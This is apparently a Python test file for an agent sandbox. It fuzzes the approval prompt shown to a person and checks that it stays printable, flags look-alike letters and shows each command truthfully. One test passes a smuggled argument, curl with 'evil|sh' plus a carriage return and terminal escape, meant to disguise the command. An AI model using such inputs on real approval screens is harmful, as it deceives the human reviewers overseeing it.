"""What somebody is shown is what is asked: whole, printable, and named by its digest."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_sandbox._fast.encoding import canonical_form
from agent_sandbox.engine.approvals.question import Question, decoded, shown
from agent_sandbox.policy.action import Promote, RunCommand


def question(*, argv: tuple[str, ...] = ("git", "push"), details: str = "", **more: Any) -> Question:
    action = canonical_form(RunCommand(argv, "/project"))
    return Question(
        **{"action": action, "policy": "p" * 64, "sandbox": "box", "run": "r1", "why": "it pushes", **_TIMES, "details": details, **more}
    )


_TIMES = {"asked": 1.0, "until": 300.0, "nonce": "n" * 32}
HOSTILE = '\x00\x07\x08\x1b\r\n\t\x7f\x85\x9b\u200b\u200e\u202e\u2066\ufeff\U000e0041\ud800\udcff\u0301аο"\\|[]()$`;a b'


def is_clean(text: str) -> bool:
    """Printable characters and line ends only; what Python calls printable has no control, format, private or surrogate character."""
    return text.replace("\n", "").isprintable()


def hostile_texts(random: Random, count: int) -> Iterator[str]:
    for _ in range(count):
        kind = random.randrange(3)
        length = random.choice((0, 1, 3, 10, 40))
        if kind == 0:
            yield "".join(random.choices(HOSTILE, k=length))
        elif kind == 1:
            yield "".join(chr(random.randrange(0x110000)) for _ in range(length))
        else:
            yield bytes(random.randrange(256) for _ in range(length)).decode("utf-8", "surrogateescape")


def _nothing_gets_through(count: int, seed: int) -> None:
    random = Random(seed)
    texts = hostile_texts(random, count * 4)
    for _ in range(count):
        name, word, why, diff = (next(texts) for _ in range(4))
        asked = question(argv=(word, name), details=f"-{diff}\n+{word}", why=why, sandbox=name, run=word)
        text = shown(asked)
        assert is_clean(text), f"seed {seed}: {asked!r}"
        assert asked.digest() in text and decoded(asked.encoded()) == asked


def test_fifteen_hundred_fuzzed_questions_are_shown_without_one_control_byte() -> None:
    _nothing_gets_through(1_500, seed=5)


@pytest.mark.torture
@pytest.mark.parametrize("seed", range(10))
def test_a_hundred_thousand_fuzzed_questions_are_shown_without_one_control_byte(seed: int) -> None:
    _nothing_gets_through(10_000, seed=3000 + seed)


def test_naughty_strings_are_shown_without_one_control_byte(evaluation_file: Callable[[str], Path]) -> None:
    strings = json.loads(evaluation_file("blns.json").read_text("utf-8"))
    assert len(strings) > 400
    for string in strings:
        assert is_clean(shown(question(argv=("x", string), details=string, why=string)))


@given(st.text(st.characters(), max_size=30), st.text(st.characters(), max_size=30))
def test_two_commands_that_differ_are_shown_differently(one: str, other: str) -> None:
    """But for the digest, which differs anyway: a person must be able to see it."""
    if one != other and "\\" not in one + other and "→" not in one + other:
        first, second = (shown(question(argv=("x", word))).splitlines()[:-1] for word in (one, other))
        assert first != second


def test_a_line_that_goes_away_is_never_left_out() -> None:
    diff = "\n".join([*(f"-gone {number}" for number in range(5_000)), "+" + "x" * 100_000])
    text = shown(question(details=diff))
    assert all(f"| -gone {number}\n" in text for number in range(5_000)) and "x" * 100_000 in text


def test_a_command_cannot_dress_up_as_another(tmp_path: Path) -> None:
    text = shown(question(argv=("curl", "evil|sh\r\x1b[2K  command   ls", "two words")))
    command = next(line for line in text.splitlines() if line.startswith("command"))
    assert "evil|sh\\x0d\\x1b[2K" in command and "'two words'" in command
    assert sum(line.startswith("command") for line in text.splitlines()) == 1


def test_letters_that_look_like_others_are_flagged() -> None:
    assert "careful" in shown(question(argv=("gіt", "push"))), "a Cyrillic letter"
    assert "careful" not in shown(question(argv=("git", "push")))


def test_everything_that_matters_is_in_the_digest() -> None:
    same = question()
    others = [
        question(argv=("git", "pull")),
        question(details="x"),
        question(policy="q" * 64),
        question(sandbox="other"),
        question(run="r2"),
        question(why="other"),
        question(nonce="m" * 32),
        question(until=301.0),
    ]
    assert question().digest() == same.digest() and len({each.digest() for each in (same, *others)}) == 9
    assert [each.group() == same.group() for each in others] == [False] * 6 + [True] * 2, "when it was asked does not matter to the group"


def test_a_promotion_shows_what_will_be_done() -> None:
    action = canonical_form(Promote("/project", "c" * 64, 3, ("git-hooks",)))
    text = shown(Question(action, "p", "box", "r", "why", 1.0, 2.0))
    assert "Promote" in text and "c" * 64 in text and "git-hooks" in text and "/project" in text


@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b"null", b"{", b"\xff", b'{"action":1}', b"[" * 5000])
def test_what_is_no_question_is_none(content: bytes) -> None:
    assert decoded(content) is None
    assert decoded(question().encoded() + b" ") is None
